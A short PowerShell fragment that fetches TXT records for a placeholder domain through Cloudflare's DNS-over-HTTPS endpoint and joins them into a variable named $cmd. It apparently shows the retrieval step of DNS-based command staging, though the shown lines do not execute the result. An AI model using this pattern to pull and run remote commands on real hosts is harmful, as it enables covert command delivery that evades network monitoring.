$r = Invoke-RestMethod -Uri "https://cloudflare-dns.com/dns-query?name=cfg.example.net&type=TXT" -Headers @{accept = "application/dns-json"}
$cmd = ($r.Answer | ForEach-Object { $_.data.Trim('"') }) -join ""
